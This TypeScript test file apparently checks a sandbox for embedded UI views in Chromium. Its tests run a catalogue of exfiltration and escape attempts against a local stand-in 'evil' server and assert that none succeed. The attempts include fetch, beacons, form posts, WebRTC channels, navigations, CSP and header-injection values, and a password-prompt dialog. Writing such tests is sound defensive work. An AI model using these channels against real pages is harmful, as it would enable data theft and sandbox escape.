/** Hostile views in Chromium: the view reports what it could do, and the evil server what it received. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { verifies } from '../support/verifies.ts';
import { type HostLab, hostLab, type LabView, type ShowOptions } from './host-lab.ts';

let lab: HostLab;
let open: LabView[] = [];
const show = async (script: string, options?: ShowOptions): Promise<LabView> => {
  const view = await lab.show(script, options);
  open.push(view);
  return view;
};

/** The outcome of each attempt, by name. */
async function outcomes(
  attempts: Readonly<Record<string, string>>,
  options?: ShowOptions,
): Promise<ReadonlyMap<unknown, unknown>> {
  const tried = Object.entries(attempts).map(([name, run]) => `attempt(${JSON.stringify(name)}, async () => ${run})`);
  const view = await show(`Promise.all([${tried.join(',\n')}])`, options);
  return new Map((await view.reports(tried.length)) as readonly [unknown, unknown][]); // as `attempt` reports
}

/** URLs of frames outside of the sandbox. The browser shows an error page there, because a policy blocked them. */
async function strayFrames(): Promise<readonly string[]> {
  const { targetInfos } = (await lab.browser.command('Target.getTargets')) as {
    targetInfos: readonly { url: string; type: string }[];
  }; // by the protocol
  const frames = targetInfos.filter(({ type }) => type === 'iframe').map(({ url }) => url);
  // A frame that is being created has no URL yet.
  return frames.filter((url) => URL.canParse(url) && new URL(url).port !== String(lab.sandbox.port));
}
async function strayFrame(): Promise<void> {
  const end = performance.now() + 30_000;
  while ((await strayFrames()).length === 0) {
    if (performance.now() > end) throw new Error('No frame was navigated');
    await new Promise((resolve) => setTimeout(resolve, 30));
  }
}

/** Ways in which a page can reach another server. */
const network = {
  fetch: 'fetch(EVIL)',
  'fetch without an answer': "fetch(EVIL, { mode: 'no-cors' })",
  XHR: "new Promise((resolve, reject) => { const r = new XMLHttpRequest(); r.onload = () => resolve('loaded'); r.onerror = () => reject(new Error()); r.open('GET', EVIL); r.send(); })",
  WebSocket:
    "new Promise((resolve, reject) => { const s = new WebSocket(EVIL.replace('http', 'ws')); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error()); })",
  EventSource:
    "new Promise((resolve, reject) => { const s = new EventSource(EVIL); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error()); })",
  image: "loads(make('img', { src: EVIL + '/i.png' }))",
  'image of a style': "void (document.body.style.background = 'url(' + EVIL + '/s.png)')",
  script: "loads(make('script', { src: EVIL + '/s.js' }))",
  module: "import(EVIL + '/m.js')",
  style: "loads(make('link', { rel: 'stylesheet', href: EVIL + '/s.css' }), document.head)",
  'imported style': "loads(make('style', { textContent: '@import url(' + EVIL + '/i.css)' }), document.head)",
  font: "new FontFace('x', 'url(' + EVIL + '/f.woff)').load()",
  video:
    "new Promise((_, reject) => { document.body.append(make('video', { src: EVIL + '/v.mp4', onerror: () => reject(new Error()) })); })",
  object: "loads(make('object', { data: EVIL + '/o' }))",
  embed: "document.body.append(make('embed', { src: EVIL + '/e' }))",
  frame: "document.body.append(make('iframe', { src: EVIL + '/f' }))",
  'document in a frame': "document.body.append(make('iframe', { srcdoc: '<img src=' + EVIL + '/d.png>' }))",
  worker: "new Promise((_, reject) => { new Worker(EVIL + '/w.js').onerror = () => reject(new Error()); })",
  'worker of data':
    "new Promise((_, reject) => { new Worker(URL.createObjectURL(new Blob(['fetch(\"' + EVIL + '\")']))).onerror = () => reject(new Error()); })",
  'service worker': "navigator.serviceWorker.register('/sw.js')",
  prefetch: "loads(make('link', { rel: 'prefetch', href: EVIL + '/p' }), document.head)",
  preload: "loads(make('link', { rel: 'preload', as: 'script', href: EVIL + '/l' }), document.head)",
  'module preload': "loads(make('link', { rel: 'modulepreload', href: EVIL + '/m' }), document.head)",
  manifest: "document.head.append(make('link', { rel: 'manifest', href: EVIL + '/m' }))",
  'speculation rules':
    "document.head.append(make('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [EVIL + '/r'], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: [EVIL + '/q'], eagerness: 'immediate' }] }) }))",
  'name resolution': "document.head.append(make('link', { rel: 'dns-prefetch', href: EVIL }))",
};
const couldNot = expect.toBeOneOf([
  'TypeError',
  'SecurityError',
  'NetworkError',
  'Error',
  'blocked',
  'NotSupportedError',
]);

const suites = [
  ['Chromium', []],
  ['Chromium without Connection-Allowlist, as other browsers are,', ['--disable-features=ConnectionAllowlists']],
] as const;

describe.each(suites)('%s', (_, flags) => {
  /** Without the header, a browser can preconnect for a navigation that it then blocks. Such connections carry no data. */
  const heard = (): readonly string[] => lab.evil.heard.filter((bytes) => flags.length === 0 || bytes !== '');
  beforeAll(async () => {
    lab = await hostLab(...flags);
  });
  afterAll(() => lab.close());
  beforeEach(() => lab.evil.forget());
  afterEach(async () => {
    for (const view of open) await view.close();
    open = [];
  });

  test('a view reads neither the host page nor the proxy', async () => {
    verifies('APP-19', 'APP-20');
    const read = await outcomes({
      'document of the proxy': 'parent.document.title',
      'document of the host': 'top.document.title',
      'variable of the host': 'top.secret',
      'storage of the proxy': 'parent.localStorage.length',
      'storage of the host': 'top.localStorage.length',
      'address of the host': 'top.location.href',
      'element of its frame': 'frameElement.id',
      'same domain': "document.domain = 'localhost'",
    });
    expect([...read.values()]).toEqual([...Array(6).fill('SecurityError'), 'TypeError', 'SecurityError']);
  });

  test('a view reads nothing that another view stored', async () => {
    const write = `(async () => {
      localStorage.setItem('key', 'mine');
      document.cookie = 'wide=mine; domain=localhost';
      await new Promise((resolve) => { indexedDB.open('mine').onsuccess = resolve; });
      new BroadcastChannel('all').onmessage = ({ data }) => report(['heard', data]);
      report(localStorage.getItem('key'));
    })()`;
    const first = await show(write);
    expect(await first.reports(1)).toEqual(['mine']);
    const second = await outcomes({
      storage: "String(localStorage.getItem('key'))",
      cookies: "'[' + document.cookie + ']'",
      databases: 'indexedDB.databases().then((all) => all.length)',
      channel: "new BroadcastChannel('all').postMessage('hello')",
      'the other view': '[...Array(top.length).keys()].map((i) => top[i][0].localStorage.key)',
    });
    expect(Object.fromEntries(second)).toEqual({
      storage: 'null',
      cookies: '[]',
      databases: '0',
      channel: 'done',
      'the other view': 'SecurityError',
    });
    expect(await first.reports(1)).toHaveLength(1);
  });

  test('a view reaches no server that it did not declare', async () => {
    verifies('APP-13', 'APP-14', 'APP-50');
    const tried = await outcomes(network);
    const silent = [
      'image of a style',
      'embed',
      'frame',
      'document in a frame',
      'manifest',
      'speculation rules',
      'name resolution',
    ];
    for (const [name, outcome] of tried)
      expect([name, outcome]).toEqual([name, silent.includes(String(name)) ? 'done' : couldNot]);
    expect(heard()).toEqual([]);
  });

  test('a declared origin opens no other', async () => {
    verifies('APP-12', 'APP-14');
    const declared = ['https://declared.example'];
    const ui = {
      csp: { connectDomains: declared, resourceDomains: declared, frameDomains: declared, baseUriDomains: declared },
    };
    await outcomes(network, { ui });
    expect(heard()).toEqual([]);
  });

  test('a beacon and the ping of a link reach nothing', async () => {
    const sent = await outcomes({
      beacon: "navigator.sendBeacon(EVIL, 'data')",
      ping: "{ const a = make('a', { href: '#here', ping: EVIL }); document.body.append(a); a.click(); return pause(500); }"
        .replace(/^\{/, '(async () => {')
        .replace(/\}$/, '})()'),
      report:
        "document.head.append(make('meta', { httpEquiv: 'Content-Security-Policy', content: \"img-src 'none'; report-uri \" + EVIL }), make('img', { src: 'data:,x' }))",
    });
    expect(sent.size).toBe(3);
    expect(heard()).toEqual([]);
  });

  test.each([
    ['by its location', "location = EVIL + '/?' + 'data'"],
    ['by replacing it', 'location.replace(EVIL)'],
    ['by a link', "(() => { const a = make('a', { href: EVIL }); document.body.append(a); a.click(); })()"],
    ['by a refresh', "document.head.append(make('meta', { httpEquiv: 'refresh', content: '0;url=' + EVIL }))"],
    ['to a document of data', "location = 'data:text/html,<script>new Image().src=\"' + EVIL + '\"<\\/script>'"],
    [
      'to a blob',
      "location = URL.createObjectURL(new Blob(['<script>new Image().src=\"' + EVIL + '\"<\\/script>'], { type: 'text/html' }))",
    ],
  ])('a view does not navigate itself away %s', async (_name, script) => {
    const view = await show(`report('before'); setTimeout(() => { ${script} }, 0)`);
    await view.reports(1);
    await strayFrame();
    await outcomes({ later: 'pause(300)' });
    expect(heard()).toEqual([]);
    expect(await lab.page.evaluate('location.href')).toBe(`${lab.origin}/`);
  });

  test('a view navigates neither the proxy nor the top nor another view', async () => {
    const other = await show("report('still here'); addEventListener('message', () => report('still here'))");
    await other.reports(1);
    await outcomes({
      proxy: 'parent.location = EVIL',
      'proxy by a link':
        "(() => { const a = make('a', { href: EVIL, target: '_parent' }); document.body.append(a); a.click(); })()",
      top: 'top.location = EVIL',
      'top by a link':
        "(() => { const a = make('a', { href: EVIL, target: '_top' }); document.body.append(a); a.click(); })()",
      'another view': 'top[0][0].location = EVIL',
      'another proxy': 'top[0].location = EVIL',
      later: 'pause(500)',
    });
    expect(heard()).toEqual([]);
    expect([await lab.page.evaluate('location.href'), await strayFrames()]).toEqual([`${lab.origin}/`, []]);
  });

  test('a view opens no window, not even when the user clicks', async () => {
    const before = await lab.browser.pages();
    const view = await show(
      `onclick = () => {
        onclick = null;
        const opened = window.open(EVIL);
        const a = make('a', { href: EVIL, target: '_blank' });
        document.body.append(a);
        a.click();
        report([navigator.userActivation.isActive, String(opened)]);
      };
      say('ui/notifications/size-changed', { height: 400 });
      report('ready')`,
      { head: '<style>html, body { height: 100% }</style>' },
    );
    await view.reports(1);
    await view.until<string>('view.container.firstChild.style.height', (height) => height === '400px');
    const { x, y } = await view.get<{ x: number; y: number }>('view.container.getBoundingClientRect().toJSON()');
    // An out-of-process frame gets no click before its first paint, which no event reports. The first click that arrives counts.
    const hasReported = 'view.messages.filter(({ method }) => method === "test/report").length > 1';
    while (!(await view.get<boolean>(hasReported))) {
      await lab.page.click(x + 50, y + 200);
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    expect(await view.reports(2)).toEqual(['ready', [true, 'null']]);
    await outcomes({ later: 'pause(300)' });
    expect(await lab.browser.pages()).toEqual(before);
    expect(heard()).toEqual([]);
  });

  test('a view submits no form, and hears that the user wanted to', async () => {
    const form = `<form method="get" action="PLACE"><input name="secret" value="x"><button>Go</button></form>`.replace(
      'PLACE',
      `http://127.0.0.1:${lab.evil.port}/form`,
    );
    const view = await show(
      `const [form] = document.forms;
      form.onsubmit = () => report('submitted');
      form.requestSubmit();
      form.submit();
      form.target = '_top';
      form.submit();`,
      { body: form },
    );
    expect(await view.reports(1)).toEqual(['submitted']);
    await outcomes({ later: 'pause(500)' });
    expect(heard()).toEqual([]);
  });

  test('a view uses no permission that was not granted, even if the user gave it to the site', async () => {
    verifies('APP-19');
    await lab.browser.command('Browser.grantPermissions', {
      permissions: ['geolocation', 'videoCapture', 'audioCapture', 'clipboardReadWrite', 'clipboardSanitizedWrite'],
    });
    const used = await outcomes({
      camera: 'navigator.mediaDevices.getUserMedia({ video: true })',
      microphone: 'navigator.mediaDevices.getUserMedia({ audio: true })',
      geolocation:
        "new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, ({ code }) => reject({ name: 'code ' + code })))",
      'clipboard, to write': "navigator.clipboard.writeText('x')",
      'clipboard, to read': 'navigator.clipboard.readText()',
      screen: 'navigator.mediaDevices.getDisplayMedia()',
      dialog: 'confirm("Give me your password")',
    });
    expect(Object.fromEntries(used)).toEqual({
      camera: 'NotAllowedError',
      microphone: 'NotAllowedError',
      geolocation: 'code 1',
      'clipboard, to write': 'NotAllowedError',
      'clipboard, to read': 'NotAllowedError',
      screen: expect.toBeOneOf(['NotAllowedError', 'InvalidStateError']),
      dialog: 'false',
    });
  });

  test('a view makes no code from text unless the host relaxed its policy', async () => {
    const attempts = {
      eval: "eval('1')",
      Function: "new Function('return 1')()",
      timer: 'new Promise((resolve) => { window.done = resolve; setTimeout("done(1)", 0); })',
    };
    expect([...(await outcomes(attempts)).values()]).toEqual(['EvalError', 'EvalError', 'nothing happened']);
    expect([...(await outcomes(attempts, { relaxed: true })).values()]).toEqual(['1', '1', '1']);
  });

  test('a view widens its policy by no element', async () => {
    const evil = `http://127.0.0.1:${lab.evil.port}`;
    const head = `<base href="${evil}/"><meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'; connect-src *">
      <meta http-equiv="Permissions-Policy" content="camera=*"><meta name="referrer" content="unsafe-url">
      <meta http-equiv="x-dns-prefetch-control" content="on"><link rel="stylesheet" href="relative.css">`;
    const tried = await outcomes(
      {
        fetch: 'fetch(EVIL)',
        base: 'document.baseURI.startsWith(EVIL)',
        image: "loads(make('img', { src: 'relative.png' }))",
      },
      { head },
    );
    expect(Object.fromEntries(tried)).toEqual({ fetch: 'TypeError', base: 'false', image: 'blocked' });
    expect(heard()).toEqual([]);
  });

  test.each([
    'https://a.example; script-src *',
    "https://a.example 'unsafe-eval'",
    "'unsafe-eval'",
    '*',
    'https:',
    'http://127.0.0.1:*',
    'https://a.example\r\nX-Evil: 1',
    'https://a.example,',
    'https://a.example/path',
    'https://user:pass@a.example',
    'https://bücher.example',
    'https://*',
    'data:',
    '"',
  ])('the domain %j adds nothing to a policy', async (domain) => {
    const csp = {
      connectDomains: [domain],
      resourceDomains: [domain],
      frameDomains: [domain],
      baseUriDomains: [domain],
    };
    const tried = await outcomes(
      {
        fetch: 'fetch(EVIL)',
        script: "loads(make('script', { src: EVIL + '/s.js' }))",
        eval: "eval('1')",
        frame: "document.body.append(make('iframe', { src: EVIL }))",
      },
      { ui: { csp } },
    );
    expect(Object.fromEntries(tried)).toMatchObject({ fetch: 'TypeError', script: 'blocked', eval: 'EvalError' });
    expect(heard()).toEqual([]);
  });
});

describe('A browser with Connection-Allowlist', () => {
  beforeAll(async () => {
    lab = await hostLab();
  });
  afterAll(() => lab.close());

  const candidate = (scope: string): string => `(async () => {
    const [stun, turn] = ['stun:127.0.0.1:PORT', 'turn:127.0.0.1:PORT?transport=tcp'].map((url) => url.replace('PORT', new URL(EVIL).port));
    const peer = new ${scope}RTCPeerConnection({ iceServers: [{ urls: stun }, { urls: turn, username: 'data', credential: 'x' }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await pause(1000);
  })()`;

  const ways = {
    'WebRTC channel': candidate(''),
    'WebRTC channel from an empty frame': `(() => { const f = make('iframe', {}); document.body.append(f); window.empty = f.contentWindow; return ${candidate('empty.')}; })()`,
    'connection in advance': "document.head.append(make('link', { rel: 'preconnect', href: EVIL }))",
    'connection in advance from a document in a frame':
      "document.body.append(make('iframe', { srcdoc: '<link rel=preconnect href=' + EVIL + '>' }))",
  };

  test.each(Object.entries(ways))('a view opens no %s', async (_name, run) => {
    for (const ui of [undefined, { csp: { connectDomains: ['https://declared.example'] } }]) {
      const view = await lab.show(`report('begun'); setTimeout(() => ${run}, 200)`, { ui });
      await view.reports(1);
      await outcomes({ later: 'pause(1200)' });
      await view.close();
    }
    expect(lab.evil.heard).toEqual([]);
  });
});
